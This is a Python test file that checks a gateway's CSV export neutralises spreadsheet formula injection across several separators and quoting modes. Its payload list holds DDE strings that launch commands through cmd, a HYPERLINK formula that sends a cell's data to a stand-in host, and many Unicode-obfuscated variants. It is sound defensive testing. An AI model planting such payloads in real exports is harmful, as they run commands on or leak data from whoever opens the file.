# SPDX-License-Identifier: Apache-2.0
"""Whoever can put text into a store tries to have it run in the spreadsheet of whoever opens the answer."""

import csv
import io
import re
from typing import Literal

import pytest

from gateway.domain.names import FieldName
from gateway.transform.blocks import BlockWriter
from gateway.transform.csv_cells import csv_frame, csv_rows

PAYLOADS = (
    "=1+1", '=HYPERLINK("http://x.example/?"&A1,"x")', "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", '"=1+1"', "'=1+1", "\u3000=1+1", "\ufeff=1+1",
    "\u200b=1+1", "\x00=1+1", "\x1b=1+1", "＝1+1", "＋1+1", "－1+1", "＠SUM(1)", "﹢1", "−1+1", ";=1+1", "x;=1+1;y", "x\t=1+1\ty",
    "x\n=1+1\ny", "x\r\n=1+1", "x|=1+1", ",=1+1", 'x,"=1+1"', '";=1+1;"', "+49 (0) 1512=1", "+1;=1+1", "1\n=1+1", "-1e5=x",
    '=DDE("cmd";"/C calc";"x")', "%0A=1+1\n=1", "=\u202e1+1", "\u202d=1+1", "\u00ad=1+1", "‘=1+1", "«=1+1",
)  # fmt: skip
MARKS = "=+-@＝＋－＠﹦﹢﹣﹫−"
UNSEEN = re.compile('^[\\s\\x00-\\x20\\x7f\\u00ad\\u200b-\\u200f\\u202a-\\u202e\\u2060-\\u206f\\ufeff"`‘’“”„«»‹›]*')
"""What a program may drop before it looks at a cell; the apostrophe of ours it keeps."""


def told(*values: str) -> str:
    """Return the answer for people with one row."""
    columns = [[value] for value in values]
    writer = BlockWriter(csv_frame([FieldName(f"f{place}") for place in range(len(values))], for_people=True))
    writer.add(csv_rows(columns, 1, for_people=True), [None])
    return writer.finish().body.decode()


def runs(cell: str) -> bool:
    """Tell whether a spreadsheet could take a cell for a formula: a mark comes first, or behind what it drops."""
    return UNSEEN.sub("", cell)[:1] in set(MARKS)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_cell_is_a_formula_to_a_reader_of_commas(payload: str) -> None:
    """In the first column and in any other."""
    for row in list(csv.reader(io.StringIO(told(payload, payload), newline="")))[1:]:
        assert not any(map(runs, row))
        assert not any(cell.startswith(("\t", "\r", "\n")) for cell in row)


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("separator", [";", "\t", "|"])
@pytest.mark.parametrize("minds_quotes", [True, False])
def test_no_cell_is_a_formula_to_a_reader_of_another_separator(
    payload: str, separator: str, *, minds_quotes: bool
) -> None:
    """As spreadsheets of other countries are, whatever they make of quotes."""
    text = told("x", payload, "y")
    quoting: Literal[0, 3] = csv.QUOTE_MINIMAL if minds_quotes else csv.QUOTE_NONE
    lines = re.split("[\r\n]+", text)
    for row in csv.reader(lines, delimiter=separator, quoting=quoting):
        assert not any(map(runs, row))


@pytest.mark.parametrize("number", ["+8613812345678", "+49 151 2345678", "-12.50", "12", "1e5", "-0"])
def test_phone_numbers_and_numbers_are_not_corrupted(number: str) -> None:
    """They stay byte for byte; text that only begins like one does not."""
    assert told("x", number).endswith(f"\r\nx,{number}\r\n")
    assert not runs(told("x", f"{number}+1").rstrip("\r\n").rpartition(",")[2])
